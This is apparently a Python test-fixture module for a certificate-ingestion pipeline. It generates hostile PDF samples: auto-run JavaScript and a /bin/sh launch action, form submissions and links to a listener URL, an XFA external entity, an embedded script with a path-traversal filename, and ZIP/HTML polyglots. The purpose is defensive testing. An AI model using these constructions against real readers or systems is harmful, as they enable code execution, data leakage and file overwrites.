"""Certificates that also try to act: scripts, programs to start, addresses to fetch, files within, two types in one."""

import zlib
from io import BytesIO
from zipfile import ZipFile, ZipInfo

from credmate_pipeline.errors import ReasonCode
from credmate_pipeline.ledger.states import DocumentStatus
from credmate_pipeline.samples.hostile.hostile_file import OTHER_PAPER, READ, HostileFile, read_anyway, unreadable
from credmate_pipeline.samples.hostile.raw_pdf import certificate_lines, one_page, raw_pdf, stream


def active_files(lines: tuple[str, ...], listener: str) -> tuple[HostileFile, ...]:
    """Every such file; where one calls somewhere, it is `listener`, a URL."""
    contents = certificate_lines(lines)
    whole = raw_pdf(one_page(contents))
    return (
        *_actions(contents, listener),
        *_inclusions(contents, listener),
        _without_unicode(lines),
        _unembedded_font(lines),
        *_polyglots(whole),
    )


def _actions(contents: bytes, listener: str) -> tuple[HostileFile, ...]:
    script = f"app.launchURL('{listener}', true); this.submitForm('{listener}');"
    return (
        read_anyway(
            "javascript.pdf",
            raw_pdf(one_page(contents, catalog=f"/OpenAction << /S /JavaScript /JS ({_quoted(script)}) >>")),
            attempt="runs a script when opened",
        ),
        read_anyway(
            "launch.pdf",
            raw_pdf(one_page(contents, catalog="/OpenAction << /S /Launch /F (/bin/sh) /P (-c id) >>")),
            attempt="starts a program",
        ),
        read_anyway(
            "submit.pdf",
            raw_pdf(one_page(contents, catalog=f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({listener}) >> >>")),
            attempt="sends a form",
        ),
        read_anyway(
            "link-everywhere.pdf",
            raw_pdf(
                one_page(
                    contents,
                    page=f"/Annots [<< /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ({listener}) >> >>]",
                )
            ),
            attempt="covers the page with a link",
        ),
    )


def _inclusions(contents: bytes, listener: str) -> tuple[HostileFile, ...]:
    remote = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F ({listener}) >> /Page 0 >>"
    attachment = "/Type /EmbeddedFile /Subtype /application#2Fx-sh"
    names = "/Names << /EmbeddedFiles << /Names [(../../../../tmp/owned.sh) 6 0 R] >> >>"
    specification = "<< /Type /Filespec /F (../../../../tmp/owned.sh) /EF << /F 5 0 R >> >>"
    outside = f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F ({listener}) >>"
    return (
        read_anyway(
            "attachment.pdf",
            raw_pdf(
                one_page(contents, catalog=names, more={5: stream(b"#!/bin/sh\nid\n", attachment), 6: specification})
            ),
            attempt="holds a program under a name that leads out",
        ),
        read_anyway(
            "remote-form.pdf",
            raw_pdf(
                one_page(contents + b"\n/X Do", resources="/XObject << /X 5 0 R >>", more={5: stream(b"", remote)})
            ),
            attempt="draws a page of another file, by its address",
        ),
        read_anyway(
            "remote-image.pdf",
            raw_pdf(
                one_page(contents + b"\n/X Do", resources="/XObject << /X 5 0 R >>", more={5: stream(b"", outside)})
            ),
            attempt="draws a picture by its address",
        ),
        read_anyway(
            "xfa.pdf",
            raw_pdf(
                one_page(contents, catalog="/AcroForm << /Fields [] /XFA 5 0 R >>", more={5: stream(_xfa(listener))})
            ),
            attempt="brings a form in XML with an entity to fetch",
        ),
    )


def _xfa(listener: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{listener}"><!ENTITY b "&a;&a;&a;">]>'
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&b;</template></xdp:xdp>'
    ).encode()


def _without_unicode(lines: tuple[str, ...]) -> HostileFile:
    """Shapes that say one thing and codes that say another, with no map between them."""
    differences = " ".join(f"/{chr(97 + (number * 7) % 26)}" for number in range(26))
    font = f"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [97 {differences}] >> >>"
    contents = certificate_lines(lines).replace(b"/F1", b"/F2")
    objects = one_page(contents, resources="", more={5: font})
    objects[3] = str(objects[3]).replace("/Font <<", "/Font << /F2 5 0 R", 1)
    statuses = READ | OTHER_PAPER | {DocumentStatus.UNREADABLE}
    return HostileFile(
        "shuffled-font.pdf",
        raw_pdf(objects),
        statuses,
        frozenset({ReasonCode.NO_READABLE_FIELDS}),
        "letters that are others",
    )


def _unembedded_font(lines: tuple[str, ...]) -> HostileFile:
    font = "<< /Type /Font /Subtype /TrueType /BaseFont /NoSuchFontAnywhere >>"
    objects = one_page(certificate_lines(lines).replace(b"/F1", b"/F2"), more={5: font})
    objects[3] = str(objects[3]).replace("/Font <<", "/Font << /F2 5 0 R", 1)
    return read_anyway("missing-font.pdf", raw_pdf(objects), attempt="uses a font that nobody has")


def _polyglots(whole: bytes) -> tuple[HostileFile, ...]:
    archive = BytesIO()
    with ZipFile(archive, "w") as file:
        file.writestr(ZipInfo("../../../../tmp/owned.sh", (2020, 1, 1, 0, 0, 0)), "id")
    page = b"<!DOCTYPE html><html><script>alert(1)</script></html>\n"
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return (
        read_anyway("pdf-and-zip.pdf", whole + archive.getvalue(), attempt="is an archive too"),
        read_anyway("html-and-pdf.pdf", page + whole, attempt="is a web page too"),
        unreadable("jpeg-and-pdf.pdf", jpeg + whole, ReasonCode.DAMAGED, attempt="begins as a picture"),
        unreadable(
            "zip-and-pdf.pdf", archive.getvalue() + whole, ReasonCode.NOT_A_DOCUMENT, attempt="begins as an archive"
        ),
        read_anyway("pdf-and-rubbish.pdf", whole + zlib.compress(bytes(9999)) * 20, attempt="ends in rubbish"),
    )


def _quoted(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
